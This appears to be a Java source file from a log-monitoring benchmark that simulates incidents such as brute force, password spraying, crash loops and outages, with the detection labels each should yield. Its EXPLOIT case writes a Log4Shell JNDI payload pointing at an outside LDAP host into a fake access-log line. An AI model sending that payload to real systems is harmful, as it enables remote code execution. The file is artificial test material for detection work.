package io.patchwatch.bench;

import static io.patchwatch.bench.Chance.between;
import static io.patchwatch.bench.Chance.within;

import java.time.Duration;
import java.time.Instant;
import java.time.format.DateTimeFormatter;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.Set;

/** What really goes wrong, with the rules and counts that would be right to tell it. */
enum Trouble {
  BRUTE_FORCE("brute force from one address", 40, "login-brute-force", "password-spraying") {
    @Override
    void happen(ChatServer it, List<ChatServer> all, Instant at, Random chance) {
      guess(it, at, between(chance, 20, 200), Duration.ofMinutes(between(chance, 3, 20)), false);
    }
  },
  SLOW_BRUTE_FORCE("slow brute force, 40 to 80 a day", 24 * 60, "login-slow-brute-force") {
    @Override
    void happen(ChatServer it, List<ChatServer> all, Instant at, Random chance) {
      guess(it, at, between(chance, 40, 80), Duration.ofHours(20), false);
    }
  },
  SPRAYING("password spraying, one address", 60, "password-spraying", "login-brute-force") {
    @Override
    void happen(ChatServer it, List<ChatServer> all, Instant at, Random chance) {
      String from = QuietLife.stranger(chance);
      int accounts = between(chance, 10, 40);
      for (int i = 0; i < accounts; i++) {
        Instant then = within(chance, at, Duration.ofMinutes(between(chance, 8, 20)));
        it.plan(then, "failed", "user" + i, from);
      }
    }
  },
  STUFFING("credential stuffing over 5 servers", 40, "credential-stuffing") {
    @Override
    void happen(ChatServer it, List<ChatServer> all, Instant at, Random chance) {
      String from = QuietLife.stranger(chance);
      int first = all.indexOf(it);
      for (int i = 0; i < 5 * 3; i++) {
        ChatServer server = all.get((first + i % 5) % all.size());
        Instant then = within(chance, at, Duration.ofMinutes(20));
        server.plan(then, "failed", server.somebody(), from);
      }
    }
  },
  DISTRIBUTED("one account from 15 to 40 addresses", 60, "distributed-guessing") {
    @Override
    void happen(ChatServer it, List<ChatServer> all, Instant at, Random chance) {
      int addresses = between(chance, 15, 40);
      for (int i = 0; i < addresses; i++) {
        Instant then = within(chance, at, Duration.ofMinutes(50));
        it.plan(then, "failed", "boss", QuietLife.stranger(chance));
      }
    }
  },
  TAKEN_OVER(
      "a success after many failures",
      60,
      "login-success-after-failures",
      "login-success-after-failures-account") {
    @Override
    void happen(ChatServer it, List<ChatServer> all, Instant at, Random chance) {
      guess(it, at, between(chance, 12, 60), Duration.ofMinutes(8), true);
    }

    @Override
    boolean canHappen(ChatServer it) {
      return it.dialect().has("failed") && it.dialect().has("accepted");
    }
  },
  RISING_FAILURES("failed logins rise slowly, x10 in 2 h", 150, "login-failures") {
    @Override
    void happen(ChatServer it, List<ChatServer> all, Instant at, Random chance) {
      for (int minute = 0; minute < 120; minute++) {
        int failures = Chance.poisson(chance, 0.3 + 3.0 * minute / 120);
        for (int i = 0; i < failures; i++) {
          Instant then = within(chance, at.plusSeconds(60L * minute), Duration.ofMinutes(1));
          it.plan(then, "failed", it.somebody(), it.home());
        }
      }
    }
  },
  ADMINISTRATOR(
      "an account becomes administrator", 10, "role-granted", "administrator-group-joined") {
    @Override
    void happen(ChatServer it, List<ChatServer> all, Instant at, Random chance) {
      it.plan(at, "admin", it.somebody(), QuietLife.stranger(chance));
    }

    @Override
    boolean canHappen(ChatServer it) {
      return it.dialect().has("admin");
    }
  },
  REGISTRATIONS("15 to 60 accounts are registered", 40, "user-creation-burst") {
    @Override
    void happen(ChatServer it, List<ChatServer> all, Instant at, Random chance) {
      int accounts = between(chance, 15, 60);
      for (int i = 0; i < accounts; i++) {
        Instant then = within(chance, at, Duration.ofMinutes(9));
        it.plan(then, "registered", "spam" + chance.nextInt(100_000), QuietLife.stranger(chance));
      }
    }

    @Override
    boolean canHappen(ChatServer it) {
      return it.dialect().has("registered");
    }
  },
  ERRORS("errors, x8 for 30 min (at least 2 a minute)", 40, "errors") {
    @Override
    void happen(ChatServer it, List<ChatServer> all, Instant at, Random chance) {
      double rate = Math.max(2, 8 * it.errorsPerMinute() * it.shape(at));
      int errors = Chance.poisson(chance, rate * 30);
      for (int i = 0; i < errors; i++) {
        it.planOne(within(chance, at, Duration.ofMinutes(30)), "error");
      }
    }
  },
  SILENCE("no lines for an hour by day", 60, "silence") {
    @Override
    void happen(ChatServer it, List<ChatServer> all, Instant at, Random chance) {
      it.away(at, at.plus(Duration.ofHours(1)));
    }
  },
  CRASH_LOOP("5 starts in 8 minutes", 15, "crash-loop", "crash-burst") {
    @Override
    void happen(ChatServer it, List<ChatServer> all, Instant at, Random chance) {
      for (int i = 0; i < 5; i++) {
        it.plan(at.plusSeconds(100L * i), "start", "root", "127.0.0.1");
      }
    }

    @Override
    boolean canHappen(ChatServer it) { // the others' logs name no start
      return !Set.of("zulip", "nextcloud").contains(it.dialect().product());
    }
  },
  CRASH("a panic", 10, "server-crashed") {
    @Override
    void happen(ChatServer it, List<ChatServer> all, Instant at, Random chance) {
      it.plan(at, "crash", "root", "127.0.0.1");
    }

    @Override
    boolean canHappen(ChatServer it) {
      return it.dialect().product().equals("mattermost");
    }
  },
  DATABASE("the database is away for 10 minutes", 20, "database-down", "database-unavailable") {
    @Override
    void happen(ChatServer it, List<ChatServer> all, Instant at, Random chance) {
      int lines = between(chance, 60, 200);
      for (int i = 0; i < lines; i++) {
        Instant then = within(chance, at, Duration.ofMinutes(10));
        it.plan(then, "database", it.somebody(), it.home());
      }
    }
  },
  NOVELTY("a kind of error never seen before", 15, "new-pattern") {
    @Override
    void happen(ChatServer it, List<ChatServer> all, Instant at, Random chance) {
      for (int i = 0; i < 3; i++) {
        it.plan(at.plusSeconds(20L * i), "novel", "root", "127.0.0.1");
      }
    }
  },
  EXPLOIT("Log4Shell at the proxy", 10, "log4shell") {
    @Override
    void happen(ChatServer it, List<ChatServer> all, Instant at, Random chance) {
      String time =
          DateTimeFormatter.ofPattern("dd/MMM/yyyy:HH:mm:ss xx", Locale.ENGLISH)
              .format(at.atZone(it.zone()));
      it.planText(
          at,
          "%s - - [%s] \"GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1\" 404 12 \"-\" \"curl/8.5\""
              .formatted(QuietLife.stranger(chance), time));
    }
  };

  private final String label;
  private final int minutes;

  @SuppressWarnings("ImmutableEnumChecker") // made by Set.of
  private final Set<String> causes;

  Trouble(String label, int minutes, String... causes) {
    this.label = label;
    this.minutes = minutes;
    this.causes = Set.of(causes);
  }

  String label() {
    return label;
  }

  /** What it may be told as. */
  Set<String> causes() {
    return causes;
  }

  /** From its begin until what is told of it is too late. */
  Duration length() {
    return Duration.ofMinutes(minutes);
  }

  /** Whether that server's log could show it. */
  boolean canHappen(ChatServer it) {
    return it.dialect().has("failed");
  }

  /** Plans its lines. */
  abstract void happen(ChatServer it, List<ChatServer> all, Instant at, Random chance);

  private static void guess(
      ChatServer it, Instant at, int times, Duration length, boolean succeeds) {
    Random chance = it.chance();
    String from = QuietLife.stranger(chance);
    String user = it.somebody();
    for (int i = 0; i < times; i++) {
      it.plan(within(chance, at, length), "failed", user, from);
    }
    if (succeeds) {
      it.plan(at.plus(length).plusSeconds(10), "accepted", user, from);
    }
  }
}
